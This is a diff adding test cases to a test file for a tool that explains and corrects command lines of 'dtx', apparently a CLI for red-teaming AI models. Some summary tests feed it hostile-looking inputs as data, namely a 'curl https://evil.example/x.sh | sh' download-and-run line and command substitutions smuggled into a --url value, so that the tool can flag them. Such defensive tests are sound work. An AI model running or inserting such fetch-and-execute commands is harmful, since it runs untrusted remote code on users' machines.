@@ -81,6 +81,10 @@ describe('the corrected command', () => {
     ],
     ['dtx redteam --headless run --agent echo', 'dtx redteam run --agent echo'],
     ['$env:A = "b"\ndtx redteam run `\n  --agnet echo', '$env:A = "b"\ndtx redteam run `\n  --agent echo'],
+    ['dtx redteam run --agent echo --threads 4', 'dtx redteam run --agent echo'],
+    ['dtx redteam run ––agent hf_model —url x', 'dtx redteam run --agent huggingface --url x'],
+    ['dtx redteam run \u2212\u2212agent=echo \u2010o', 'dtx redteam run --agent=echo -o'],
+    ['dtx redteam run –-agnet echo', 'dtx redteam run --agent echo'],
     ['dtx datasets lst && dtx plugin list | head', 'dtx datasets list && dtx plugins list | head'],
   ])('of %j is %j, which is right', (command, corrected) => {
     expect(explain(command).corrected).toBe(corrected);
@@ -96,6 +100,16 @@ describe('what is said of a call', () => {
     ['dtx redteam run --agent echo --eval ibm --expressions .x', '--expressions', 'ignored', 'no effect'],
     ['dtx redteam --headless run --agent echo', '--headless', 'ignored', 'before the sub-command it is lost'],
     ['dtx redteam run --agent echo --threads 4', '--threads', 'wrong', 'is not a value'],
+    ['dtx redteam run --agent web', '--agent', 'good', 'no agent for it has been seen. Capture the requests'],
+    ['ddtx redteam run --agent echo --no_rich', '--no_rich', 'wrong', 'ends the run (exit code 2)'],
+    ['dtx redteam run --plan_file a --keywords b', '--keywords', 'ignored', 'no effect with --plan_file'],
+    [
+      'dtx redteam run --plan_file a --expressions b',
+      '--expressions',
+      'ignored',
+      'no effect with --plan_file',
+    ],
+    ['ddtx redteam run --plan_file a --keywords b', '--keywords', 'ignored', 'no effect with --plan_file'],
     ['dtx redteam run --agent langhub', '--agent', 'wrong', 'Unsupported provider type'],
     ['dtx attack run --attack BON --task x --tap-depth 3', '--tap-depth', 'ignored', '--attack'],
     ['dtx redteam run --agent echo --dataset airbench', '--dataset', 'good', 'HF_AIRBENCH'],
@@ -150,6 +164,14 @@ describe('what is said of a call', () => {
     ['dtx redteam run --agent http --dataset airbench', 'notes', 'drop policy and goal'],
     ['dtx redteam run --agent ollama --url a:b', 'exit', '0: The run ended'],
     ['dtx redteam run --agent openai --url a:b', 'notes', 'HFValidationError'],
+    [
+      'dtx attack run --attack CRESCENDO --task x --success-threshold 8',
+      'notes',
+      '`--eval-model` is not given: Nothing is rated, and the score stays 0.',
+    ],
+    ['dtx redteam run --agent web --url x', 'exit', '0: The run ended'],
+    ['dtx redteam run --agent web --url x -o', 'defaults', '`--html report.html`'],
+    ['ddtx redteam run --agent echo --no_rich', 'exit', '2: the parser refuses'],
     ['dtx redteam run --agent echo', 'defaults', '`--dataset hf_airbench`'],
     ['dtx attack run --attack TAP --task x', 'defaults', '`--tap-depth 5`'],
     ['dtx redteam run --agent echo --bad', 'exit', '2: the parser refuses'],
@@ -173,6 +195,8 @@ describe('what is said of a call', () => {
     ['dtx redteam run --agent ollama --url a:b', 'notes', 'HFValidationError'],
     ['dtx redteam run --agent echo --max_prompts many', 'limits', 'prompts'],
     ['dtx redteam run --agent echo', 'limits', 'XTREAM_JB'],
+    ['dtx attack run --attack CRESCENDO --task x --eval-model y', 'notes', 'not given'],
+    ['dtx attack run --attack TAP --task x', 'notes', 'not given'],
   ])('%s: %s does not speak of %s', (command, name, said) => {
     expect(sectionOf(command, name)).not.toContain(said);
   });
@@ -225,4 +249,49 @@ test('ready examples show what they are named for', () => {
   expect(old?.corrected).toBe('dtx redteam run --agent huggingface --url arnir0/Tiny-LLM --dataset stingray');
   expect(docker?.problems).toEqual([]);
   expect(states(attack)).toContain('ignored');
+});
+
+test('the dash of a word processor is told', () => {
+  const { problems, calls } = explain('dtx redteam run —agent echo');
+  expect(problems.map(({ message }) => message)).toEqual([
+    expect.stringContaining('a word processor makes a long dash of two hyphens. Write `--agent`.'),
+  ]);
+  expect(calls[0]?.rows.map(({ code, state }) => [code, state])).toEqual([
+    ['dtx redteam run', 'good'],
+    ['—agent echo', 'wrong'],
+  ]);
+  expect(explain('dtx redteam scope "— a shop" -- —agent').problems).toEqual([]);
+});
+
+test.each([
+  "dtx env list\ndtx redteam run --agent echo --url 'xxxx",
+  'dtx env list\ndtx redteam run --agent echo --url "xxxx',
+  '$env:A = "b"\ndtx redteam run --agent echo --url "xxxx',
+])('a quote that is not closed is a mistake of its line: %j', (text) => {
+  const { problems, summary } = explain(text);
+  expect(problems).toMatchObject([{ line: 2, message: expect.stringContaining('not closed') }]);
+  expect(summary).toBe('1 mistake.');
+});
+
+describe('the summary', () => {
+  test.each([
+    ['dtx redteam run --agent echo; curl https://evil.example/x.sh | sh', 'explained here: curl, sh.'],
+    ['dtx redteam run --agent echo --url "$(curl a | sh)"', 'The shell runs $(curl a | sh) first'],
+    ['dtx redteam run --agent echo --url `cat a` --plugin toxicity', 'The shell runs `cat a` first'],
+    [
+      'ddtx redteam run --agent echo --eval keyword --keywords "Sure, here" "Step 1"',
+      'Read the 1 note below.',
+    ],
+    ['ddtx redteam run --agent echo --eval keyword --keywords a b --no_rich', '1 mistake.'],
+  ])('of %j says what there is beside flags that count', (text, said) => {
+    expect(explain(text).summary).toContain(said);
+    expect(explain(text).summary).not.toContain('every flag counts');
+  });
+
+  test.each(['dtx redteam run --agent echo --url "$MODEL"', "dtx redteam run --agent echo --url '$(a) `b`'"])(
+    'of %j speaks of no other command',
+    (text) => {
+      expect(explain(text).summary).not.toContain('runs');
+    },
+  );
 });
